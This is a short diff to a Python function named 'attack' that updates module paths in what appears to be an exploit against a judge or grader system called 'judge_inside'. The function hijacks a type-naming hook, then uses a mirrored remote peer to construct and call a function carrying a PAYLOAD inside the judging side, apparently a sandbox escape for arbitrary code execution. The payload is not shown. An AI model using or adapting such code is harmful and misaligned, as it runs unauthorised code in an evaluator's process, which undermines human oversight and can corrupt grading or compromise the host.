@@ -22,10 +22,10 @@ def run_it():
 
 
 def attack(way):
-    values = sys.modules["judge_inside.values"]
+    values = sys.modules["judge_inside.connection.values"]
     named = values.shared_name
     values.shared_name = lambda kind: ("types", OWN[kind]) if kind in OWN else named(kind)
-    request = sys.modules["judge_inside.mirrored"].SPACES[0].peer.request
+    request = sys.modules["judge_inside.mirror.mirrored"].SPACES[0].peer.request
     parts = [getattr(run_it.__code__, f"co_{name}") for name in NAMES.split()]
     made = request(way, types.CodeType, *WAYS[way]((*parts, (), ())))
     request(way, types.FunctionType, *WAYS[way]((made, {"PAYLOAD": PAYLOAD})))()
